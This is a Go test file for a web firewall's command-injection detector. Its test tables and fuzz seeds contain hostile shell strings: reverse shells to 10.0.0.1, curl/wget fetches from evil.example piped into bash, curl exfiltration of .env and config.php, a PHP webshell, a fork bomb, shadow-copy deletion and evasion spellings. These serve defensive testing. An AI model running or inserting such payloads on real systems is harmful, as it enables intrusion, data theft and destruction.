package detect

import (
	"testing"

	"github.com/rampartwaf/rampart/internal/request"
)

func TestCMDEXE(t *testing.T) {
	tests := []struct {
		name  string
		value string
		want  bool
	}{
		// separators and command classes
		{"semicolon strong", "127.0.0.1; whoami", true},
		{"semicolon bare", "x;ls", true},
		{"pipe bare between pipes", "a.html|id|", true},
		{"and and with flag", "foo && ls -la /", true},
		{"newline path", "x\ncat /etc/passwd", true},
		{"cursor up hides command", "\necho ok\nexit\n\x1b[2Acurl http://a.example/x.sh", true},
		{"erase line hides command", "x\n\x1b[1Kwget http://a.example/s", true},
		{"relative usr bin after pipe", "|usr/bin/id", true},
		{"relative usr sbin after semicolon", "x;usr/sbin/ifconfig", true},
		{"sleep before literal newline", "1 \\nsleep 5\\n", true},
		{"text newline", `\n/usr/bin/id\n`, true},
		{"text newline bare", `a;id\n`, true},
		{"backtick", "name=`id`", true},
		{"substitution any listed", "$(cmd)", true},
		{"process substitution", "<(cat file)", true},
		{"pipe into shell glued", "whxami|sh ``", true},
		{"pipe into shell with comment", `echo "foo" | tr x o | sh #`, true},
		{"shell alone after and", "d=/dev&&(sh)0>$d/tcp/10.0.0.1/80", true},
		{"network tool with host", "x; ping -c 3 10.0.0.1", true},
		{"sleep number", "1 | sleep 5", true},
		{"prefix command", "x; nohup ifconfig", true},
		{"windows switch", "view=image.jpg&bcdboot /r file.txt", true},
		{"regedit", "cmd=; regedit /E c:\\x\\f.txt HKEY_CURRENT_USER\\Key", true},
		{"at time", ";at 2:00 \"echo test\"", true},
		{"vim shell escape", ";vim dddd +silent\\\\ \\!whoami +wq", true},
		{"chain of commands", "cd /;cd etc;column passwd", true},
		// PowerShell
		{"iwr after semicolon", ";iwr http://example.com/x.ps1", true},
		{"iex iwr", "; iex (iwr http://10.0.0.1:8000/x.ps1)", true},
		{"cmdlet", "powershell Invoke-WebRequest -Uri http://x/y", true},
		{"cmd /c", "a & cmd /c dir", true},
		// evasions
		{"quotes in word", "; w'h'o'am'i", true},
		{"backslash in word", "x;who\\ami", true},
		{"empty expansion", "x;c$@at /etc/passwd", true},
		{"ifs", "cat${IFS}/etc/passwd", true},
		{"plus as space", "www.example.com;c$@at+/et$@c/pas$@swd", true},
		{"empty backticks", "127.0.0.1;wh``oami", true},
		{"empty subst in word", "pi$()ng 127.0.0.1", true},
		{"doubled quotes", `""p""y""t""h""o""n""3"" ""x""`, true},
		{"glob bin dir", "x;/???/??t /etc/passwd", true},
		{"glob range bin dir", "/usr/[a-z]in/bash", true},
		{"brace expansion", "{cat,/etc/passwd}", true},
		{"brace empty element", "{,ifconfig}", true},
		{"brace glued", "{l,-lh}s", true},
		{"variable assembly", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", true},
		{"variable command with flag", "a=nc&&$a -nlvp 555", true},
		{"shell variable -c", "$SHELL -c \"echo hi\"", true},
		{"empty expansion before command", ";$a cat test.txt", true},
		{"param expansion slice", "${PATH:0:1}etc${PATH:0:1}passwd", true},
		{"version suffix", ";gcc10.1<<<void main(){}", true},
		// whole values that are hostile by themselves
		{"whoami alone", "whoami", true},
		{"ifconfig then separator", "ifconfig;. rm -rf /", true},
		{"cat system file", "cat /etc/passwd", true},
		{"list root", "ls -l /root", true},
		{"bind shell", "nc -lvvp 4444 -e /bin/sh", true},
		{"python inline code", "python -c 'import os'", true},
		{"binary path", "/bin/sh -i", true},
		{"write webshell", `echo "<?php system($_GET['c']); ?>" > cmd.php`, true},
		{"net user", "net user hacker P@ss /add", true},
		{"reg add", `reg add "HKLM\System\X" /v fDeny /t REG_DWORD /d 0 /f`, true},
		{"alias definition", "alias a=b", true},
		{"bin relative", "bin/visudo", true},
		{"wget output", "wget http://x.example/a.sh -O /tmp/a.sh", true},
		// constructs
		{"dev tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true},
		{"shellshock", "() { :;}; /bin/bash -c id", true},
		{"fork bomb", ":(){ :|:& };:", true},
		{"fork bomb named", "f(){ f & f; };f", true},
		{"system call", "system('id');", true},
		{"shell_exec call", `shell_exec("cat config.php")`, true},
		{"ssh proxycommand", "-oProxyCommand=sh -c id", true},
		{"wrapper option", ";c89 -wrapper sh,-c,id .", true},
		{"batch for", "for /f %i in ('dir') do echo %i", true},
		{"batch if", "IF EXIST C:\\pagefile.sys CMD", true},
		{"ssi exec", `<!--#exec cmd="/usr/bin/id"-->`, true},
		{"smtp injection", "x\r\nMAIL FROM:<a@b.example>", true},
		{"smtp auth initial response", "x\r\nAUTH X-TEST dGhpc2lzIWF0ZXN0cGFzc3dvcmQ=", true},
		{"pop3 list", "x\r\nlist 3", true},
		{"list in a text", "Shopping\r\nlist 3 apples", false},
		{"auth in a text", "Hi\r\nauth failed for user bob again", false},
		{"ansi-c quoted command", ";$'whoami'", true},
		{"locale quoted command in braces", "{,$\"whoami\",}", true},
		{"c# interpolated string", `Console.WriteLine($"Hello {name}");`, false},
		{"rsql filter", "created_at<2024-01-01;id>100", false},
		{"fiql filter", "status==open;ps>2,age=ge=30", false},
		{"filter then a redirect to a file", "q=1;ls>list.txt", true},
		{"filter then a redirect to a path", "age>30;id>/tmp/out", true},
		{"redirect alone", ";id>x", true},
		{"filter then a command that acts", "a=1;reboot>x", true},
		{"filter then a shell reading a file", "a=1;sh<x", true},
		{"filter then a process substitution", "a=1;cat<(id)", true},
		{"filter then a recon command into a file", "a=1;whoami>out", false},
		{"imap injection", "\r\na001 STATUS INBOX (MESSAGES)", true},
		{"sqlite shell", ";\n.shell nc 10.0.0.1 6666 -e sh", true},
		{"command line then hostile", "ls -la; cat /etc/shadow", true},
		{"command line with substitution", "curl https://x.example/a || `curl https://x.example/b`", true},
		{"curl pipe bash", "curl -sL http://x.example/setup.sh | sudo bash -", true},
		{"curl pipe bash from an address", "curl -sL https://203.0.113.5/setup.sh | sudo bash -", true},
		{"newline opens value", "\nid\n", true},
		{"prose with hostile command", "nice product; wget http://x.example/s -O /tmp/s", true},

		// benign
		{"prose semicolon", "I like cats; dogs are fine too", false},
		{"colour codes in a log", "\x1b[31mERROR\x1b[0m disk full\nretry later", false},
		{"cursor escape in terminal output", "progress 10%\x1b[2K\rprogress 20%", false},
		{"usr path prose", "see usr/bin/README for details", false},
		{"usr bin path alone", "usr/bin/python3", false},
		{"sleep hours on a line of notes", "Notes:\nsleep 8 hours\nwake at 6", false},
		{"ping times in prose", "Status:\nping 3 times then give up", false},
		{"sleep probe on its own line", "x\nsleep 8\n", true},
		{"sleep then command", "a\nsleep 5 id", true},
		{"sleep then separator", "a;sleep 5 ;", true},
		{"usr bin env path alone", "usr/bin/env", false},
		{"pipe list ending in id", "name|id", false},
		{"sleep with unit", "sleep 5\\nminutes", false},
		{"cat food", "cat food; dog food", false},
		{"tom and jerry", "Tom & Jerry", false},
		{"price", "red;$5 each", false},
		{"pipe columns", "name|id|email", false},
		{"pipe key", "name|id=5", false},
		{"skills pipe", "Java | Python | Go", false},
		{"whole command line", "ls -la", false},
		{"help desk tar", "tar -xzf site-backup.tar.gz", false},
		{"help desk ansible", "ansible-playbook site.yml --check", false},
		{"git status", "git status", false},
		{"pip install", "pip install requests", false},
		{"chmod", "chmod +x deploy.sh", false},
		{"markdown inline code", "Run `ls -la` to see the files", false},
		{"jquery", "$('#id').hide(); $(this).show()", false},
		{"template literal", "Hello ${name}, welcome", false},
		{"compose default", "${PORT:-8080}", false},
		{"stack trace", "TypeError: x is undefined\n    at $g (https://cdn.example.com/app.js:110:8)\n    at 3gAo (https://cdn.example.com/a.js:1:2)", false},
		{"graphql", "query {\n  viewer {\n    id\n    name\n  }\n}", false},
		{"forum post with commands", "Hi all, I ran the following on my server\nls -la /var/www\nand it shows nothing. What am I missing?", false},
		{"shebang script", "#!/bin/sh\nset -x\nlscpu\nfdisk -l\n", false},
		{"field list braces", "fields={id,name,email}", false},
		{"csv semicolons", "date;time;type;value", false},
		{"doubleclick path", "activityi;src=5406241;type=global;cat=wac-v0;ord=1", false},
		{"json in value", `{"0":";false","1":"probably;true"}`, false},
		{"minified js", "function(e){var n=e.id,r=e.name;return t(n,r)}", false},
		{"random token", "CUIJ<r)ld^$< PH+|nc>oLjPc).#ka0vw7y", false},
		{"random token 2", "@RY~UT`.An!dcB%l;w>szx#)7X7KQ=.8e3", false},
		{"search for quoted word", "pass'w'd", false},
		{"apostrophe", "I'd like to order; who's in charge?", false},
		{"windows path", `C:\Program Files\App\bin\app.exe`, false},
		{"file name", "report-2024;final.pdf", false},
		{"url", "https://example.com/search?q=a&b=c|d", false},
		{"email", "jane.doe@example.org", false},
		{"markdown", "## Steps\n- open the *file*\n- click **Save**", false},
		{"emoticon", "see you <3 :)", false},
		{"math", "if a<b>c then x==y", false},
		{"css important", "color: red !important", false},
		{"date time prose", "Meeting at 10:30; bring the date sheet", false},
		{"prose at", "Go to store.\nAt the store, shop.", false},
		{"exclamation prose", "Wow! ls is a command", false},
		{"python compare", "if x == 1: print(x)", false},
		{"env file", "DB_HOST=localhost\nDB_PORT=5432", false},
		{"sleep prose", "Time to sleep; 8 hours is plenty", false},
		{"binary blob", "\x01\x02ª\x0fJ[YSW\x03J<k\x17&@eX\\&\x01\x04c(", false},
		{"sensor like", "2;3159108;3424819;11,0,0,0,2,0;8VF0Me=xwYVVaF-iJq0pf*;j;vYU*t7w+Q6$GeO+.u&x!gpU8", false},
		{"makefile var", "$(CC) -o app main.c", false},
		{"phone", "+1 (555) 010-9999", false},
		{"semicolon list of names", "Smith, J.; Doe, A.; Roe, R.", false},
		{"command line with and", "cd /var/www/html && ls -la", false},
		{"command line with pipe", "grep -r \"foo\" . | wc -l", false},
		{"install instructions", "To fix it: sudo apt-get update && sudo apt-get install -y nginx", false},
		{"prose pipes", "Use `cat file.txt | sort | uniq -c` to count lines", false},
		{"prose net user", "net income | net user growth | net promoter score", false},
		{"prose separators", "Use ; to separate commands, e.g. ls; pwd", false},
		{"python module", "python3 -m venv .venv", false},
		{"git chain", "git commit -m \"fix: bug\" && git push", false},
		{"mkdir chain", "mkdir -p build && cd build && cmake ..", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := &request.Param{Source: request.SourceForm, Name: "v", Value: tt.value}
			frag, got := matchCMDEXE(p, tt.value)
			if got != tt.want {
				t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tt.value, got, frag, tt.want)
			}
		})
	}
}

// cmdBreakouts are separators an injection puts before its command: each puts the next
// word in a command position (doc comment of cmdexe.go). A single '|' or '&' glued to
// the word before it ("name|id", "Q&A") is weaker on purpose and left out.
var cmdBreakouts = []string{";", "; ", " ; ", "&&", " && ", "||", " || ", " | ", " & ", "\n", "\r\n", "\n\n"}

// cmdHostileLines are command lines hostile by themselves (doc comment: a recon command
// alone, a hostile tool with shell arguments, an interpreter running inline code, a
// command on a system location, a pipe into a shell, a /dev/tcp redirection): they
// match after any breakout, even where the separators are the writer's own (prose, a
// value that is a command line from its first word), where every command is judged as
// if it opened the value.
var cmdHostileLines = []string{
	"cat /etc/passwd", "whoami", "uname -a", "ls -la /root", "wget http://evil.example/x.sh -O /tmp/x.sh",
	"nc -e /bin/sh 10.0.0.1 4444", "curl http://evil.example/x | bash", "python -c 'import os'",
	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "certutil -urlcache -f http://evil.example/x x.exe",
}

// cmdTrailers end the injected command before the benign rest of a value. A line break
// is not one of them: after a command judged as the start of a value (in prose, or after
// a first word that is a command, as in "w; whoami\nx") the detector reads a line break
// as a space, so "whoami" is no longer alone and the value passes, while
// "w; whoami;x" matches.
var cmdTrailers = []string{";", " ; ", "&&", " || ", " | "}

// FuzzCmdExe checks the promises of cmdexe.go on arbitrary input:
//
//   - anywhere: a hostile command line after a breakout separator is found, whatever
//     benign text (benignAlphabet) comes before it and, after a trailing separator,
//     after it; the fragment is non-empty and part of the value;
//   - start only: a value with no separator is judged by its first word alone, so a
//     value of benign text that does not open with a command word never matches;
//   - any value: a fragment reported is non-empty and part of the value.
func FuzzCmdExe(f *testing.F) {
	f.Add("127.0.0.1", "", uint8(0), uint8(0))
	f.Add("Hello, I have a question about my order", "thanks", uint8(3), uint8(11))
	f.Add("w", "x", uint8(7), uint8(17))
	f.Add("$(id)", "a", uint8(9), uint8(2))
	for n := range 12 {
		f.Add("order 1234", "thanks", uint8(n), uint8(n))
	}
	f.Fuzz(func(t *testing.T, prefix, suffix string, sep, attack uint8) {
		if frag, ok := matchCMDEXE(nil, prefix); ok {
			checkFragment(t, CMDEXE, prefix, frag)
		}

		v := benignText(prefix, benignAlphabet, 80) + pick(cmdBreakouts, sep) + pick(cmdHostileLines, attack)
		if suffix != "" {
			v += pick(cmdTrailers, sep/16) + benignText(suffix, benignAlphabet, 80)
		}
		frag, ok := matchCMDEXE(nil, v)
		if !ok {
			t.Fatalf("CMDEXE missed %q", v)
		}
		checkFragment(t, CMDEXE, v, frag)

		// "zq" is no command: with no separator, nothing is in a command position.
		plain := "zq " + benignText(prefix+suffix, benignAlphabet, 160)
		if frag, ok := matchCMDEXE(nil, plain); ok {
			t.Fatalf("CMDEXE matched %q (fragment %q): no command position in it", plain, frag)
		}
	})
}

// TestCmdExeAttachedBreakout: a single '|' or '&' glued to the word before it is graded
// "attached" ("name|id", "Q&A" stay benign); there a strong or network command with a
// host or URL argument still matches when it is strong or follows the host a ping form
// asks for (found by FuzzCmdExe).
func TestCmdExeAttachedBreakout(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{"127.0.0.1|wget http://evil.example/x.sh", true},
		{"127.0.0.1&wget http://evil.example/x.sh", true},
		{"127.0.0.1|wget http://evil.example/x.sh -O /tmp/x.sh", true},
		{"127.0.0.1|nc 10.0.0.1 4444", true},
		{"127.0.0.1|curl http://evil.example/x.sh", true},
		{"example.org&curl http://evil.example/x.sh", true},
		{"name|id|email", false},
		{"Q&A with curl http://example.com/docs", false},
		{"docs|curl http://example.com/docs", false},
	} {
		if _, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
			t.Errorf("matchCMDEXE(%q) = %v, want %v", tc.v, ok, tc.want)
		}
	}
}

// TestCmdExeLineBreakEndsCommand: a line break ends a command as ';' does, also after a
// command judged as the start of a value ("whoami\nid" as "whoami;id"; found by
// FuzzCmdExe). Lines of prose that open with command words stay prose.
func TestCmdExeLineBreakEndsCommand(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{"whoami\nid", true},
		{"ifconfig\nx", true},
		{"ls\nwhoami\nx", true},
		{"w | whoami\r\nw", true},
		{"who\nwhat\nwhere", false},
		{"Find the time\nSort the list\nMore later", false},
	} {
		if _, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
			t.Errorf("matchCMDEXE(%q) = %v, want %v", tc.v, ok, tc.want)
		}
	}
}

// TestCmdExeProbeToken: the first separator after a probe token (nothing, a number, an
// address, a host name, one lower-case letter or digit) is a breakout however it is
// spelt, glued or not, and no prose can have written it: the short probes scanners
// append there match (a recon word alone or with arguments, a trailing comment, a
// Windows command with switches). A word or a capital before the separator keeps the
// old grading, so field lists and names joined by '&' stay data.
func TestCmdExeProbeToken(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{"127.0.0.1|id", true},
		{"10.0.0.1 | id", true},
		{"8.8.8.8|sleep 5", true},
		{"1|ls", true},
		{"x|set", true},
		{"127.0.0.1&set", true},
		{"127.0.0.1'|id", true},
		{"example.com|pwd", true},
		{"host.local:8080&env", true},
		{"::1|id", true},
		{"127.0.0.1;id #", true},
		{"127.0.0.1|id #", true},
		{"127.0.0.1;id//", true},
		{"a;id #", true},
		{"127.0.0.1;ps aux", true},
		{";ps aux", true},
		{"8.8.8.8&net user", true},
		{"127.0.0.1&dir", true},
		{"127.0.0.1&ipconfig", true},
		{"x & ver", true},
		{"1&vol", true},
		{"x & vssadmin delete shadows /all /quiet", true},
		{"x & wmic process call create calc", true},
		{"127.0.0.1& timeout /t 5", true},
		{"x & choice /t 5 /d y", true},
		{"127.0.0.1& mshta http://evil.example/x.hta", true},
		{"x & curl.exe http://evil.example/x -o x.exe", true},
		{"x & certutil.exe -decode x.b64 x.exe", true},
		{"1&whoami.exe", true},
		{"127.0.0.1\nset", true},
		{"1 & who am i", true},
		{"127.0.0.1;echo q7x2k9", true},
		{"127.0.0.1|echo q7x2k9|", true},
		{"x||ver", true},
		{"127.0.0.1&set&", true},
		{"x|hostname", true},
		{"1|echo", false},
		{"1&id=5", false},
		{"1 & who knows", false},
		{"1|ls.txt", false},
		{"x|set=5", false},
		// look-alikes
		{"name|id", false},
		{"id|name|email", false},
		{"Tom & Jerry", false},
		{"R&D", false},
		{"rock & roll", false},
		{"Q&A", false},
		{"salt & pepper", false},
		{"A&W", false},
		{"A & W", false},
		{"I & my team set goals", false},
		{"AT&T", false},
		{"S&P 500", false},
		{"1|true", false},
		{"0;false", false},
		{"1|2", false},
		{"10.0.0.1|10.0.0.2", false},
		{"example.com|test", false},
		{"1;date", false},
		{"1 & 2", false},
		{"2 & set up the server", false},
		{"v2.0|set", false},
		{"e.g. & more", false},
		{"ls", false},
		{"set", false},
		{"x|y", false},
	} {
		if frag, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
			t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tc.v, ok, frag, tc.want)
		}
	}
}

// TestCmdExeWritersOwnLines: what tells a command line the writer typed or pasted from
// an injection is where it stands. A value (or a line of a post) that opens with the
// command is the writer's own: a published installer fetched over https from a named
// host and piped into a shell, a $(...) argument of a command line with options, a
// shell's path alone, a batch IF in a post's code block, the cells of a markdown table.
// The same command after a separator that follows a token of data is an injection.
func TestCmdExeWritersOwnLines(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", false},
		{"curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -", false},
		{"curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash", false},
		{"wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash", false},
		{`/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"`, false},
		{"The official instructions say:\n\n```\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n```\n\nbut I get an error", false},
		{"To install run: curl -fsSL https://get.docker.com | sh and then reboot", false},
		{"curl http://evil.example/x|sh", true},
		{"curl -fsSL https://203.0.113.5/x.sh | sh", true},
		{"curl -fsSL https://evil.example/x.sh -o /tmp/x.sh | sh", true},
		{"curl -fsSL https://a.example/x https://b.example/y | sh", true},
		{"curl -fsSL https://evil.example/$(id) | sh", true},
		{`/bin/bash -c "$(curl -fsSL http://evil.example/x.sh)"`, true},
		{`x;bash -c "$(curl -fsSL https://evil.example/x.sh)"`, true},
		{"127.0.0.1|curl http://evil.example/x|sh", true},
		{"127.0.0.1;curl -fsSL https://evil.example/x.sh | sh", true},
		{";curl https://sh.rustup.rs | sh", true},
		{"1;wget -qO- https://evil.example/x | bash", true},
		{"docker run --rm -it -v $(pwd):/app -w /app node:20 npm test", false},
		{"`docker run --rm -it -v $(pwd):/app -w /app node:20 npm test` is what CI does", false},
		{"docker run --user $(id -u):$(id -g) -v $(pwd):/src alpine ls", false},
		{"$(id)", true},
		{"x$(sleep 5)", true},
		{"x; ls -la $(id)", true},
		{"ls -la $(cat /etc/passwd)", true},
		{"/bin/sh", false},
		{"/bin/bash", false},
		{"/usr/bin/python3", false},
		{"/usr/bin/id", true},
		{"/bin/sh -i", true},
		{"/usr/[a-z]in/bash", true},
		{"x;/bin/sh", true},
		{"```bat\n@echo off\nxcopy \"%SRC%\" \"D:\\Backup\" /E /I /Y\nif %ERRORLEVEL% neq 0 echo Backup failed & exit /b 1\n```\n\nThis fails when the path has spaces.", false},
		{"if %ERRORLEVEL% neq 0 echo Backup failed & exit /b 1", false},
		{"IF EXIST C:\\pagefile.sys CMD", true},
		{"| id | name |", false},
		{"| id | name |\n|---|---|\n| 1 | Bob |", false},
		{"| command | what it does |\n|---|---|\n| ls | lists files |", false},
		{"|id|ls|", true},
		{"|id|", true},
		{"```bash\nset -euo pipefail\ngzip -9 \"$f\"\n```\nIs there a cleaner way?", false},
		{"```powershell\nGet-ChildItem -Path C:\\ -Recurse |\n  Sort-Object Length\n```\nTakes forever. Is there a faster way?", false},
	} {
		if frag, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
			t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tc.v, ok, frag, tc.want)
		}
	}
}

// TestCmdExeArgumentSubstitution: a $(...) argument of a command line with options
// passes only when it holds one read-only command printing a fact (infoSubst); a
// fetcher, shell, network tool, sleep, file read or second command in it runs wherever
// it stands, in double quotes too.
func TestCmdExeArgumentSubstitution(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{"a -b $(wget -q https://evil.example/x.sh) $(bash x.sh)", true},
		{"a -b $(curl -s -d @.env https://evil.example/)", true},
		{"a -b $(curl -s -F f=@../config.php https://evil.example/)", true},
		{`a -b "$(curl -s -d @.env https://evil.example/)"`, true},
		{"a -b $(wget -q https://evil.example/x)", true},
		{"a -b $(sh x)", true},
		{"a -b $(python3 x)", true},
		{"x -o $(sleep 10)", true},
		{"x -o $(id)", true},
		{"x -o $(pwd; id)", true},
		{"x -o $(pwd)$(nc evil.example 4444)", true},
		{"x -o $(date -s 2020-01-01)", true},
		{"x -o $(hostname evil)", true},
		{"x -o $(dirname $(curl -s https://evil.example/x))", true},
		{`a -b $(bash -c "$(curl -fsSL https://evil.example/x)")`, true},
		{"docker run --rm -it -v $(pwd):/app -w /app node:20 npm test", false},
		{"docker run --user $(id -u):$(id -g) -v \"$(pwd)\":/src alpine ls", false},
		{"docker run -e USER=$(whoami) --cpus $(nproc) --platform linux/$(uname -m) img", false},
		{"docker build -t app:$(git rev-parse --short HEAD) --build-arg BUILD=$(date +%Y%m%d) .", false},
		{"tar -czf backup-$(hostname -s)-$(date -u +%FT%H%M).tgz -C $(git rev-parse --show-toplevel) src", false},
		{`cd -P "$(dirname "$(readlink -f "$0")")"`, false},
		{"ln -sf $(which python3) /usr/local/bin/python", false},
	} {
		if frag, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
			t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tc.v, ok, frag, tc.want)
		}
	}
}

// TestCmdExeTableRows: the cells of a markdown table are each judged as a value
// opens, but only in a table's shape: several rows (no shell runs them), or one row of
// padded cells with no pipeline in it. No installer passes in a cell.
func TestCmdExeTableRows(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{"|curl -fsSL https://evil.example/x|sh|", true},
		{"|curl -fsSL https://evil.example/x|sh|\ncat", true},
		{"|wget -qO- https://evil.example/x|bash|tee|", true},
		{"|curl -s -d @.env https://evil.example/|tee|", true},
		{"| curl -fsSL https://evil.example/x | sh |", true},
		{"| wget -qO- https://evil.example/x | bash |", true},
		{"| cat x | nc evil.example 4444 |", true},
		{"| x | curl -fsSL https://evil.example/x | xz -d | sh |", true},
		{"| cat x | xz | nc evil.example 4444 |", true},
		{"| x | wget -qO- https://get.example/x |\n|---|---|", true},
		{"|id|name|", true},
		{"| id | name |", false},
		{"| name | python |", false},
		{"| id | name | date |", false},
		{"| id | name | python |", false},
		{"| Method | Path | Notes |\r\n|---|---|---|\r\n| GET | /x | paginated |", false},
		{"|a|b|\n|---|---|\n|curl -fsSL https://x.example/i|sh|", false},
	} {
		if frag, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
			t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tc.v, ok, frag, tc.want)
		}
	}
}

// TestCmdExeSpellings: spellings of a command that hide it from a word match: the
// variable naming cmd.exe, brace expansion of a timing probe, the command string of
// sh -c given alone, options that make tar run a command.
func TestCmdExeSpellings(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{"127.0.0.1& %COMSPEC% /c whoami", true},
		{"%comspec% /k dir", true},
		{"127.0.0.1;{sleep,5}", true},
		{"{ping,-n,5,127.0.0.1}", true},
		{"-c id", true},
		{"-c 'cat /etc/passwd'", true},
		{"--checkpoint=1 --checkpoint-action=exec=sh shell.sh", true},
		{"--to-command=sh", true},
		{"%COMSPEC% is the path of cmd.exe", false},
		{"{id,name}", false},
		{"{1,5}", false},
		{"{sleep,late}", false},
		{"-c copy", false},
		{"-c 3", false},
		{"-c config.yml", false},
		{"--checkpoint=1000", false},
	} {
		if frag, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
			t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tc.v, ok, frag, tc.want)
		}
	}
}

// TestCmdExeProbeTokenMatrix: every probe token, however the breakout after it is
// spelt, with every short probe scanners append (doc comment of cmdexe.go).
func TestCmdExeProbeTokenMatrix(t *testing.T) {
	tokens := []string{"127.0.0.1", "8.8.8.8 ", "1", "x", "example.com", "10.0.0.1'", ""}
	seps := []string{"|", "&", ";", " | ", " & ", "||", "&&", "\n"}
	probes := []string{"id", "ls", "pwd", "set", "ver", "dir", "whoami", "sleep 5", "id #", "ps aux", "net user", "timeout /t 5", "ping -n 5 127.0.0.1"}
	for _, tok := range tokens {
		for _, sep := range seps {
			for _, p := range probes {
				v := tok + sep + p
				if _, ok := matchCMDEXE(nil, v); !ok {
					t.Errorf("matchCMDEXE(%q) = false, want true", v)
				}
			}
		}
	}
}
